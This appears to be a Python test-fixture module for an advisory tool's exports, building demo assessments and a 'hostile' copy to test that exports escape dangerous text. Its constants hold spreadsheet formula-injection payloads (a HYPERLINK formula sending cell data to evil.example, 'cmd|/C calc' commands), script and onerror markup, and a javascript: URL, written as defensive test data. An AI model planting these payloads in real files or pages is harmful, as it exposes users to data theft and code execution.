"""Assessments for the export tests: the shipped demo, an earlier one, and a hostile copy.

The hostile copy puts formula starts, markup, XML breakers, control characters and line breaks
into every kind of text an export prints (names, notes, actors, guidance, drivers, bottom
lines, provenance), as inputs from outside could.
"""

from __future__ import annotations

import json
from datetime import date
from functools import cache
from typing import Any

from advisory.assessment import Assessment, assessment_json
from advisory.engine import DATA_DIR, assess

AS_OF = date(2025, 11, 20)
EARLIER = date(2025, 9, 20)
GENERATED = "2025-11-20T06:00:00+00:00"  # fixed, so outputs can be compared byte for byte
FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+2", "-2+3*cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1")  # fmt: skip
MARKUP = '<script>alert("x")</script> ]]> & <b>bold</b> <img src=x onerror=alert(1)>'
CONTROL = "ctrl\x01\x02\x0bend"
HOSTILE_NAME = f"{MARKUP}\nsecond line"


@cache
def demo() -> Assessment:
    run = assess([DATA_DIR / "incidents"], [DATA_DIR / "guidance"], as_of=AS_OF,
                 generated_at=GENERATED)  # fmt: skip
    return run.assessment


@cache
def earlier_json() -> dict[str, Any]:
    run = assess([DATA_DIR / "incidents"], [DATA_DIR / "guidance"], as_of=EARLIER,
                 generated_at=GENERATED)  # fmt: skip
    return json.loads(assessment_json(run.assessment))


def as_json(a: Assessment) -> dict[str, Any]:
    return json.loads(assessment_json(a))


def with_ged_input(a: Assessment) -> Assessment:
    """The demo as if one input were a UCDP GED file (its provenance entry, as the reader
    writes it)."""
    doc = as_json(a)
    doc["provenance"]["inputs"].append({
        "kind": "incidents", "path": "GEDEvent_v24_1.csv", "sha256": "sha256:00", "records": 5,
        "format": "ucdp-ged", "licence": "CC BY 4.0",
        "attribution": "UCDP Georeferenced Event Dataset (GED) version 24.1, CC BY 4.0",
    })  # fmt: skip
    return Assessment.model_validate(doc)


@cache
def hostile() -> Assessment:
    doc = as_json(demo())
    texts = [*FORMULAS, MARKUP, CONTROL, HOSTILE_NAME]
    for i, loc in enumerate(doc["locations"]):
        loc["name"] = texts[i % len(texts)]
        loc["bottom_line"] = texts[(i + 1) % len(texts)]
        for d in loc["drivers"]:
            d["because"] = texts[(i + 2) % len(texts)]
    for i, inc in enumerate(doc["incidents"]):
        inc["notes"], inc["actor1"] = texts[i % len(texts)], texts[(i + 3) % len(texts)]
        inc["location"] = texts[(i + 5) % len(texts)]
    for g in doc["guidance"]:
        g["summary"], g["source"] = FORMULAS[0], "javascript:alert(1)"
    doc["bottom_line"]["personal_security"] = FORMULAS[0]
    doc["bottom_line"]["regime_collapse"] = MARKUP
    doc["provenance"]["inputs"][0]["path"] = FORMULAS[1]
    return Assessment.model_validate(doc)


def hostile_texts() -> list[str]:
    return [*FORMULAS, MARKUP, CONTROL, HOSTILE_NAME]
